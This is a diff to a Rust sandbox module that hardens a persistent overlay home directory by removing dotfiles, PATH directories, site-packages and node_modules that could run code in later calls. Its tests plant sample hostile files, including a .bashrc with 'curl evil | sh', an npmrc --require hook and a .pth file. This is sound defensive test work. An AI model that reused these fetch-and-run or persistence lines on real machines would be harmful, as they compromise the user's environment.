@@ -40,13 +40,15 @@ use std::ffi::OsStr;
 use std::fs::File;
 use std::os::fd::AsRawFd;
 use std::os::unix::ffi::OsStrExt;
-use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
 use std::path::{Path, PathBuf};
 
 use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
 
 use crate::gitstate;
+
+mod remove;
 
 /// Which layer a call asks for.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
@@ -91,6 +93,29 @@ pub struct Meta {
     /// When a call last used it (the lock file's mtime; not stored).
     #[serde(skip_deserializing)]
     pub last_used_at: u64,
+    /// Deeper than [`MAX_DEPTH`] when measured.
+    #[serde(skip_serializing_if = "std::ops::Not::not")]
+    pub too_deep: bool,
+    /// Why the layer could not be cleaned after a call (then it is cleared
+    /// before the next, or not used).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub broken: Option<String>,
+}
+
+impl Meta {
+    /// Why the layer must be cleared before it is used again, if it must.
+    fn over(&self, cap: u64) -> Option<String> {
+        if let Some(why) = &self.broken {
+            return Some(format!("left uncleaned ({why})"));
+        }
+        if self.bytes > cap {
+            return Some(format!("{} (over limits.homeLayerBytes {})", human(self.bytes), human(cap)));
+        }
+        if self.files > MAX_FILES {
+            return Some(format!("{} entries (over {MAX_FILES})", self.files));
+        }
+        self.too_deep.then(|| format!("deeper than {MAX_DEPTH} levels"))
+    }
 }
 
 /// How often a layer's size is measured, at most.
@@ -131,7 +156,9 @@ pub struct Layer {
     pub notes: Vec<String>,
     /// Written back after the call.
     meta: Meta,
-    _lock: Option<File>,
+    /// Directories on `PATH` inside the home (relative to it).
+    exec_dirs: Vec<PathBuf>,
+    _lock: File,
 }
 
 /// Where layers live: `<state>/home-layers`.
@@ -203,7 +230,8 @@ fn try_lock(dir: &Path) -> Result<Option<File>, String> {
 }
 
 /// Prepare the call's layer: create or open it, lock it, clear it when it
-/// grew past `cap`, drop startup places left in it. `Ok(None)`: no layer
+/// grew past `cap` (bytes, or [`MAX_FILES`] entries, or deeper than
+/// [`MAX_DEPTH`]), finish what a killed call left. `Ok(None)`: no layer
 /// asked for. An error is for a note: the call then runs without a layer.
 pub fn prepare(req: &Request, workspace: Option<&Path>, cap: u64) -> Result<Option<Layer>, String> {
     if *req == Request::Off {
@@ -223,26 +251,26 @@ pub fn prepare(req: &Request, workspace: Option<&Path>, cap: u64) -> Result<Opti
             if meta.key.is_empty() {
                 meta = Meta { key: key.clone(), created_at: now(), ..Meta::default() };
             }
-            if meta.bytes > cap {
+            if let Some(why) = meta.over(cap) {
                 clear_upper(&dir)?;
-                notes.push(format!("home layer was {} (over limits.homeLayerBytes {}): cleared", human(meta.bytes), human(cap)));
+                notes.push(format!("home layer was {why}: cleared"));
                 meta.bytes = 0;
                 meta.files = 0;
+                meta.too_deep = false;
+                meta.broken = None;
             }
-            let mut layer = Layer { dir, key, temporary: false, notes, meta, _lock: Some(lock) };
+            let mut layer = Layer { dir, key, temporary: false, notes, meta, exec_dirs: exec_dirs(), _lock: lock };
             if !is_ready {
                 layer.make_dirs()?;
             }
             // An earlier call's `finish` did not run (its launcher was
             // killed, or the host went down): do its part now.
-            match layer.settle_volatile()? {
-                Some(true) => layer.notes.push("home layer cleared: the host went down while a call was using it (its last writes may be torn)".into()),
-                Some(false) => {
-                    let dropped = layer.drop_startup();
-                    layer.notes.extend(dropped.iter().map(|d| format!("dropped {d} from the home layer (startup files do not persist there)")));
-                }
-                None => {}
+            if layer.settle_volatile()? {
+                layer.notes.push("home layer cleared: the host went down while a call was using it (its last writes may be torn)".into());
             }
+            // The upper directory is the sandbox's $HOME: whatever mode it
+            // left there, the launcher must be able to work in it.
+            let _ = std::fs::set_permissions(layer.upper(), std::fs::Permissions::from_mode(0o700));
             return Ok(Some(layer));
         }
         notes.push("home layer in use by another call: this call's home writes are not kept".to_string());
@@ -250,10 +278,25 @@ pub fn prepare(req: &Request, workspace: Option<&Path>, cap: u64) -> Result<Opti
     private_dir(&root)?;
     let tmp = root.join(format!("tmp-{}-{}", std::process::id(), std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.subsec_nanos()).unwrap_or(0)));
     private_dir(&tmp)?;
-    let layer = Layer { dir: tmp, key: "fresh".to_string(), temporary: true, notes, meta: Meta::default(), _lock: None };
+    // Locked too, so `sc home clear` never removes it under a running call.
+    let lock = try_lock(&tmp)?.ok_or_else(|| format!("{}: locked by another process", tmp.display()))?;
+    let layer = Layer { dir: tmp, key: "fresh".to_string(), temporary: true, notes, meta: Meta::default(), exec_dirs: Vec::new(), _lock: lock };
     layer.make_dirs()?;
     Ok(Some(layer))
 }
+
+/// Directories on the command's `PATH` inside the home, relative to it: what
+/// a layer puts there would run in later calls in place of the real tools.
+fn exec_dirs() -> Vec<PathBuf> {
+    let Some(home) = crate::policy::paths::primary_home() else { return Vec::new() };
+    let path = std::env::var_os("PATH").unwrap_or_default();
+    std::env::split_paths(&path).filter_map(|d| d.strip_prefix(&home).ok().filter(|r| !r.as_os_str().is_empty()).map(Path::to_path_buf)).collect()
+}
+
+/// Places in a home whose content later commands load or run by lookup,
+/// beyond the startup lists of `gitstate`: every user site-packages and
+/// Node's home-wide module folders.
+const LAYER_CODE_PLACES: &[&str] = &[".local/lib", "node_modules", ".node_modules", ".node_libraries"];
 
 impl Layer {
     pub fn upper(&self) -> PathBuf {
@@ -268,37 +311,34 @@ impl Layer {
     /// The overlay is mounted `volatile` (no sync of the whole filesystem the
     /// layer is on when the sandbox ends, up to hundreds of milliseconds per call);
     /// overlayfs then leaves `work/work/incompat/volatile` and refuses the
-    /// next mount until it is gone. Left from this boot, the overlay was
-    /// unmounted by the kernel and its writes go to disk as any file's: the
-    /// mark is removed. Left from an earlier boot, the host went down with
-    /// writes of the layer unsynced: the layer may be torn, and is cleared.
-    /// `finish` removes the mark after every call; one found here means
-    /// `finish` did not run. Returns `None` (no mark) or whether the layer
-    /// was cleared.
-    fn settle_volatile(&self) -> Result<Option<bool>, String> {
-        let mark = self.volatile_mark();
-        let Ok(m) = mark.symlink_metadata() else { return Ok(None) };
+    /// next mount until it is gone. `finish` removes overlayfs's `work/work`
+    /// after every call; found here, `finish` did not run. Left from this
+    /// boot, the overlay was unmounted by the kernel and its writes go to
+    /// disk as any file's: the startup places are dropped (`finish`'s other
+    /// part) and the mark removed. Left from an earlier boot, the host went
+    /// down with writes of the layer unsynced: the layer may be torn, and is
+    /// cleared. Returns whether it was cleared.
+    fn settle_volatile(&mut self) -> Result<bool, String> {
+        let mark = self.dir.join("work/work");
+        let Ok(m) = mark.symlink_metadata() else { return Ok(false) };
         let crashed = boot_time().is_some_and(|b| m.mtime() < b as i64);
         if crashed {
             clear_upper(&self.dir)?;
             self.make_dirs()?;
         } else {
-            remove_any(&mark).map_err(|e| format!("{}: {e}", mark.display()))?;
+            let dropped = self.drop_startup_or_clear()?;
+            self.notes.extend(dropped_note(&dropped, "left by an earlier call"));
+            remove_rel(&self.dir, "work/work")?;
         }
-        Ok(Some(crashed))
-    }
-
-    /// overlayfs's own working directory, made at each mount (holding the
-    /// `incompat/volatile` mark, mode 000): removed whole after each call.
-    fn volatile_mark(&self) -> PathBuf {
-        self.dir.join("work/work")
+        Ok(crashed)
     }
 
     /// Drop from the layer whatever it holds at `paths` (absolute, under
     /// `home`) or instead of a directory above them: the plan mounts
     /// something there, and the layer must neither hide nor redirect it.
-    /// Returns the paths dropped (as the sandbox names them).
-    pub fn clear_paths(&self, home: &Path, paths: &[&Path]) -> Vec<PathBuf> {
+    /// Returns the paths dropped (as the sandbox names them); an error when
+    /// something could not be removed (the layer must not be used then).
+    pub fn clear_paths(&self, home: &Path, paths: &[&Path]) -> Result<Vec<PathBuf>, String> {
         let upper = self.upper();
         let mut dropped = Vec::new();
         let mut seen = std::collections::HashSet::new();
@@ -314,54 +354,68 @@ impl Layer {
                 if !seen.insert(cur.clone()) && i + 1 < n {
                     continue;
                 }
+                // (Every directory above `cur` was checked to be a plain one.)
                 let at = upper.join(&cur);
                 let Ok(m) = at.symlink_metadata() else { break };
                 let last = i + 1 == n;
                 // Above the target only a plain, non-opaque directory may stay.
                 if last || !m.is_dir() || opaque(&at) {
-                    if remove_any(&at).is_ok() {
+                    if remove_rel(&upper, &cur)? {
                         dropped.push(home.join(&cur));
                     }
                     break;
                 }
             }
         }
-        dropped
+        Ok(dropped)
     }
 
-    /// Remove startup places from the layer; returns them as `~/…`.
-    pub fn drop_startup(&self) -> Vec<String> {
+    /// Remove from the layer what would run or be loaded by later calls:
+    /// every dotfile directly in the home (shell rc files, `.gitconfig`, and
+    /// the files those source or include, whatever their names: `.fzf.bash`,
+    /// `.gitconfig.local`…; a layer keeps directories — caches, tool configs —
+    /// and ordinary files), the startup places of `gitstate`
+    /// (`~/.config/git`, `~/.local/bin`, …), the directories on `PATH` inside
+    /// the home, user site-packages and Node's home module folders. Returns
+    /// them as `~/…`.
+    pub fn drop_startup(&self) -> Result<Vec<String>, String> {
         let upper = self.upper();
-        let Ok(top) = std::fs::read_dir(&upper) else { return Vec::new() };
-        let names: std::collections::HashSet<Vec<u8>> = top.filter_map(|e| e.ok()).map(|e| e.file_name().as_bytes().to_vec()).collect();
+        let Ok(top) = std::fs::read_dir(&upper) else { return Ok(Vec::new()) };
+        let mut top_dirs = std::collections::HashSet::new();
         let mut out = Vec::new();
-        for s in gitstate::STARTUP {
-            let first = s.split('/').next().unwrap_or(s);
-            if !names.contains(first.as_bytes()) {
-                continue;
-            }
-            let p = upper.join(s);
-            // A symlink or a non-directory where the first part of a
-            // two-part name is could lead to a directory full of them.
-            let first_p = upper.join(first);
-            let target = if first != *s && first_p.symlink_metadata().is_ok_and(|m| !m.is_dir()) { first_p } else { p };
-            if target.symlink_metadata().is_ok() && remove_any(&target).is_ok() {
-                out.push(format!("~/{}", target.strip_prefix(&upper).unwrap_or(&target).display()));
+        for e in top.flatten() {
+            let name = e.file_name();
+            let Ok(ft) = e.file_type() else { continue };
+            // A whiteout (a deleted real file) adds nothing.
+            let whiteout = ft.is_char_device() && e.metadata().is_ok_and(|m| m.rdev() == 0);
+            if ft.is_dir() {
+                top_dirs.insert(name.as_bytes().to_vec());
+            } else if !whiteout && name.as_bytes().starts_with(b".") && remove_rel(&upper, Path::new(&name))? {
+                out.push(format!("~/{}", name.to_string_lossy()));
             }
         }
-        out.extend(self.drop_home_startup(&names));
-        out
+        let places = gitstate::STARTUP.iter().map(|s| PathBuf::from(*s)).chain(LAYER_CODE_PLACES.iter().map(PathBuf::from)).chain(self.exec_dirs.iter().cloned());
+        for rel in places {
+            let Some(first) = rel.components().next() else { continue };
+            if !top_dirs.contains(first.as_os_str().as_bytes()) {
+                continue;
+            }
+            if remove_rel(&upper, &rel)? {
+                out.push(format!("~/{}", rel.display()));
+            }
+        }
+        out.extend(self.drop_home_startup(&top_dirs)?);
+        Ok(out)
     }
 
-    /// [`gitstate::HOME_STARTUP`] entries (`~/bin`, user site-packages
-    /// `.pth` files, …) found in the layer.
-    fn drop_home_startup(&self, top: &std::collections::HashSet<Vec<u8>>) -> Vec<String> {
+    /// [`gitstate::HOME_STARTUP`] entries found in the layer.
+    fn drop_home_startup(&self, top: &std::collections::HashSet<Vec<u8>>) -> Result<Vec<String>, String> {
         let upper = self.upper();
         let firsts: Vec<&str> = gitstate::HOME_STARTUP.iter().map(|(d, n)| d.split('/').find(|p| !p.is_empty()).unwrap_or(n)).collect();
         if !firsts.iter().any(|f| top.iter().any(|n| f.strip_suffix('*').map_or(n.as_slice() == f.as_bytes(), |p| n.starts_with(p.as_bytes())))) {
-            return Vec::new();
+            return Ok(Vec::new());
         }
-        let Ok(fd) = crate::treewalk::open_root(&upper) else { return Vec::new() };
+        let Ok(fd) = crate::treewalk::open_root(&upper) else { return Ok(Vec::new()) };
         let mut found = Vec::new();
         // Deep enough for every entry (`.local/lib/python3.x/site-packages/x.pth`).
         crate::treewalk::walk(
@@ -375,27 +429,69 @@ impl Layer {
                 }
             },
         );
-        found.into_iter().filter(|r| remove_any(&upper.join(r)).is_ok()).map(|r| format!("~/{}", r.display())).collect()
+        let mut out = Vec::new();
+        for r in found {
+            if remove_rel(&upper, &r)? {
+                out.push(format!("~/{}", r.display()));
+            }
+        }
+        Ok(out)
+    }
+
+    /// [`Self::drop_startup`]; when something there cannot be removed, the
+    /// whole layer is cleared instead (never kept with a startup file in it).
+    fn drop_startup_or_clear(&self) -> Result<Vec<String>, String> {
+        match self.drop_startup() {
+            Ok(d) => Ok(d),
+            Err(why) => {
+                clear_upper(&self.dir)?;
+                self.make_dirs()?;
+                Ok(vec![format!("everything (a startup place could not be removed: {why})")])
+            }
+        }
     }
 
     /// After the call: drop startup places, measure, record; a temporary
     /// layer is removed. Returns notes for the person.
-    pub fn finish(self) -> Vec<String> {
+    pub fn finish(mut self) -> Vec<String> {
         if self.temporary {
-            let _ = remove_any(&self.dir);
+            if let (Some(root), Some(name)) = (self.dir.parent(), self.dir.file_name()) {
+                let _ = remove_rel(root, Path::new(name));
+            }
             return Vec::new();
         }
+        let dropped = match self.drop_startup_or_clear() {
+            Ok(d) => d,
+            Err(why) => {
+                // Not even clearable: never used again until `sc home clear`.
+                self.meta.broken = Some(why.clone());
+                write_meta(&self.dir, &self.meta);
+                return vec![format!("home layer could not be cleaned ({why}): it will not be used again; remove it with `sc home clear`")];
+            }
+        };
+        let notes = dropped_note(&dropped, "written by this call");
         // The sandbox is gone, and its overlay with it (see `settle_volatile`).
-        let _ = remove_any(&self.volatile_mark());
-        let notes: Vec<String> = self.drop_startup().into_iter().map(|d| format!("{d} was written to the home layer and dropped (startup files do not persist there)")).collect();
+        let _ = remove_rel(&self.dir, "work/work");
         // Measuring walks the whole layer: at most once a minute (a large
         // cache would cost milliseconds on every call).
         if now().saturating_sub(self.meta.measured_at) >= MEASURE_EVERY_SECS {
-            let (bytes, files) = usage(&self.dir);
-            write_meta(&self.dir, &Meta { bytes, files, measured_at: now(), ..self.meta.clone() });
+            let u = usage(&self.dir);
+            write_meta(&self.dir, &Meta { bytes: u.bytes, files: u.files, too_deep: u.too_deep, measured_at: now(), ..self.meta.clone() });
         }
-        notes
+        notes.into_iter().collect()
     }
+}
+
+/// One notice line for what was dropped (the first few named).
+fn dropped_note(dropped: &[String], when: &str) -> Option<String> {
+    if dropped.is_empty() {
+        return None;
+    }
+    let mut names: Vec<&str> = dropped.iter().take(5).map(String::as_str).collect();
+    let more = dropped.len().saturating_sub(names.len());
+    let tail = if more > 0 { format!(" and {more} more") } else { String::new() };
+    names.sort_unstable();
+    Some(format!("dropped {}{tail} from the home layer ({when}; startup files and code do not persist there)", names.join(", ")))
 }
 
 /// The directory carries overlayfs's opaque mark (`user.overlay.opaque`, as
@@ -408,72 +504,67 @@ fn opaque(p: &Path) -> bool {
     n > 0 && v[0] == b'y'
 }
 
-/// Remove a file, symlink, device (a whiteout) or a whole tree, never
-/// following a symlink, even where the sandbox left directories without
-/// permissions (overlayfs's own `work/work` is mode 000 too).
-pub fn remove_any(p: &Path) -> std::io::Result<()> {
-    let m = p.symlink_metadata()?;
-    if !m.is_dir() {
-        return std::fs::remove_file(p);
-    }
-    if std::fs::remove_dir_all(p).is_ok() {
-        return Ok(());
-    }
-    // Make every directory enterable and writable, then again.
-    unlock_tree(p);
-    std::fs::remove_dir_all(p)
-}
-
-/// chmod 0700 `p` and every directory below it (no symlink followed: only
-/// entries `read_dir` reports as directories are entered), top down.
-fn unlock_tree(p: &Path) {
-    let mut stack = vec![p.to_path_buf()];
-    while let Some(d) = stack.pop() {
-        if !d.symlink_metadata().is_ok_and(|m| m.is_dir()) {
-            continue;
-        }
-        let _ = std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o700));
-        if let Ok(rd) = std::fs::read_dir(&d) {
-            for e in rd.flatten() {
-                if e.file_type().is_ok_and(|t| t.is_dir()) {
-                    stack.push(e.path());
-                }
-            }
-        }
-    }
+/// Remove `rel` below `base` (see `remove`), as a message on failure.
+fn remove_rel(base: &Path, rel: impl AsRef<Path>) -> Result<bool, String> {
+    let rel = rel.as_ref();
+    remove::remove_beneath(base, rel).map_err(|e| format!("removing {}: {e}", base.join(rel).display()))
 }
 
 /// Empty a layer (its `upper` and `work`), keeping the directory and lock.
 fn clear_upper(dir: &Path) -> Result<(), String> {
     for sub in ["upper", "work"] {
-        let p = dir.join(sub);
-        if p.symlink_metadata().is_ok() {
-            remove_any(&p).map_err(|e| format!("clearing {}: {e}", p.display()))?;
-        }
+        remove_rel(dir, sub)?;
     }
     Ok(())
 }
 
-/// Bytes allocated and entries in a layer's `upper` (no symlink followed).
-pub fn usage(dir: &Path) -> (u64, u64) {
-    let Ok(fd) = crate::treewalk::open_root(&dir.join("upper")) else { return (0, 0) };
-    let (mut bytes, mut files) = (0u64, 0u64);
+/// Entries past which a layer is cleared, whatever its size in bytes
+/// (empty files, symlinks and directories use inodes, not bytes).
+pub const MAX_FILES: u64 = 1_000_000;
+/// Depth past which a layer is cleared (no tool's cache is this deep; a
+/// deeper tree only makes the walks slow).
+pub const MAX_DEPTH: usize = 256;
+
+/// What a layer's `upper` holds.
+#[derive(Debug, Default, Clone, Copy)]
+pub struct Usage {
+    pub bytes: u64,
+    pub files: u64,
+    pub too_deep: bool,
+}
+
+/// Bytes allocated and entries in a layer's `upper` (no symlink followed),
+/// walking at most [`MAX_FILES`] entries and [`MAX_DEPTH`] levels.
+pub fn usage(dir: &Path) -> Usage {
+    let Ok(fd) = crate::treewalk::open_root(&dir.join("upper")) else { return Usage::default() };
+    let mut u = Usage::default();
+    let mut too_deep = false;
     crate::treewalk::walk(
         fd.as_raw_fd(),
-        |_, _| crate::treewalk::Descend::Yes,
+        |rel, _| {
+            if rel.components().count() + 1 >= MAX_DEPTH {
+                too_deep = true;
+                return crate::treewalk::Descend::No;
+            }
+            crate::treewalk::Descend::Yes
+        },
         |v| {
+            if u.files > MAX_FILES {
+                return;
+            }
             for e in v.entries {
-                files += 1;
+                u.files += 1;
                 let Ok(c) = std::ffi::CString::new(e.name.clone()) else { continue };
                 // SAFETY: fstatat below a directory descriptor, into a zeroed struct.
                 let mut st: libc::stat = unsafe { std::mem::zeroed() };
                 if unsafe { libc::fstatat(v.fd, c.as_ptr(), &mut st, libc::AT_SYMLINK_NOFOLLOW) } == 0 {
-                    bytes += st.st_blocks as u64 * 512;
+                    u.bytes += st.st_blocks as u64 * 512;
                 }
             }
         },
     );
-    (bytes, files)
+    u.too_deep = too_deep;
+    u
 }
 
 fn read_meta(dir: &Path) -> Meta {
@@ -556,13 +647,19 @@ pub fn remove(l: &Listed) -> Result<u64, String> {
     let Some(_lock) = try_lock(&l.dir)? else {
         return Err(format!("{} is in use by a running call", l.meta.key));
     };
-    remove_any(&l.dir).map_err(|e| format!("removing {}: {e}", l.dir.display()))?;
+    let (Some(root), Some(name)) = (l.dir.parent(), l.dir.file_name()) else { return Err(format!("{}: not a layer", l.dir.display())) };
+    remove_rel(root, Path::new(name))?;
     Ok(l.meta.bytes)
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn test_layer(dir: &Path) -> Layer {
+        let lock = try_lock(dir).unwrap().unwrap();
+        Layer { dir: dir.to_path_buf(), key: "t".into(), temporary: false, notes: vec![], meta: Meta::default(), exec_dirs: vec![PathBuf::from(".npm-global/bin")], _lock: lock }
+    }
 
     #[test]
     fn parses_the_flag() {
@@ -587,14 +684,14 @@ mod tests {
     #[test]
     fn clear_paths_drops_what_shadows_a_mounted_path() {
         let d = tempfile::tempdir().unwrap();
-        let layer = Layer { dir: d.path().to_path_buf(), key: "t".into(), temporary: false, notes: vec![], meta: Meta::default(), _lock: None };
+        let layer = test_layer(d.path());
         let up = layer.upper();
         std::fs::create_dir_all(up.join(".config/gh")).unwrap();
         std::fs::write(up.join(".config/gh/hosts.yml"), "planted").unwrap();
         std::fs::create_dir_all(up.join("keep/me")).unwrap();
         std::os::unix::fs::symlink("/etc", up.join(".ssh")).unwrap();
         let home = Path::new("/home/u");
-        let dropped = layer.clear_paths(home, &[Path::new("/home/u/.config/gh"), Path::new("/home/u/.ssh"), Path::new("/home/u/.aws/credentials")]);
+        let dropped = layer.clear_paths(home, &[Path::new("/home/u/.config/gh"), Path::new("/home/u/.ssh"), Path::new("/home/u/.aws/credentials")]).unwrap();
         assert_eq!(dropped, vec![PathBuf::from("/home/u/.config/gh"), PathBuf::from("/home/u/.ssh")]);
         assert!(up.join(".config").is_dir(), "a plain directory above stays");
         assert!(up.join(".ssh").symlink_metadata().is_err());
@@ -605,7 +702,7 @@ mod tests {
     #[test]
     fn startup_places_are_dropped_and_data_kept() {
         let d = tempfile::tempdir().unwrap();
-        let layer = Layer { dir: d.path().to_path_buf(), key: "t".into(), temporary: false, notes: vec![], meta: Meta::default(), _lock: None };
+        let layer = test_layer(d.path());
         let up = layer.upper();
         std::fs::create_dir_all(up.join(".npm/_cacache")).unwrap();
         std::fs::create_dir_all(up.join(".local/bin")).unwrap();
@@ -614,15 +711,28 @@ mod tests {
         std::fs::write(up.join(".bashrc"), "curl evil | sh").unwrap();
         std::fs::write(up.join(".npmrc"), "node-options=--require /x").unwrap();
         std::os::unix::fs::symlink("/tmp", up.join(".config")).unwrap();
-        let mut dropped = layer.drop_startup();
+        let mut dropped = layer.drop_startup().unwrap();
         dropped.sort();
         assert!(dropped.contains(&"~/.bashrc".to_string()), "{dropped:?}");
         assert!(dropped.contains(&"~/.npmrc".to_string()), "{dropped:?}");
         assert!(dropped.contains(&"~/.local/bin".to_string()), "{dropped:?}");
         assert!(dropped.contains(&"~/.config".to_string()), "{dropped:?}");
-        assert!(dropped.iter().any(|d| d.ends_with("evil.pth")), "{dropped:?}");
+        // The whole user site (code later imports), the PATH directory, a
+        // file any rc file may source.
+        assert!(dropped.contains(&"~/.local/lib".to_string()), "{dropped:?}");
+        assert!(!up.join(".local/lib/python3.11/site-packages/evil.pth").exists());
+        assert!(dropped.contains(&"~/.npm-global/bin".to_string()) || !up.join(".npm-global").exists(), "{dropped:?}");
         assert!(up.join(".npm/_cacache").is_dir());
         assert!(Path::new("/tmp").is_dir());
+        std::fs::create_dir_all(up.join(".npm-global/bin")).unwrap();
+        std::fs::write(up.join(".npm-global/bin/ls"), "evil").unwrap();
+        std::fs::write(up.join(".fzf.bash"), "evil").unwrap();
+        std::fs::create_dir_all(up.join("node_modules/yaml")).unwrap();
+        let dropped = layer.drop_startup().unwrap();
+        for d in ["~/.npm-global/bin", "~/.fzf.bash", "~/node_modules"] {
+            assert!(dropped.contains(&d.to_string()), "{d}: {dropped:?}");
+        }
+        assert!(up.join(".npm-global").is_dir(), "only the PATH directory goes");
     }
 
     #[test]
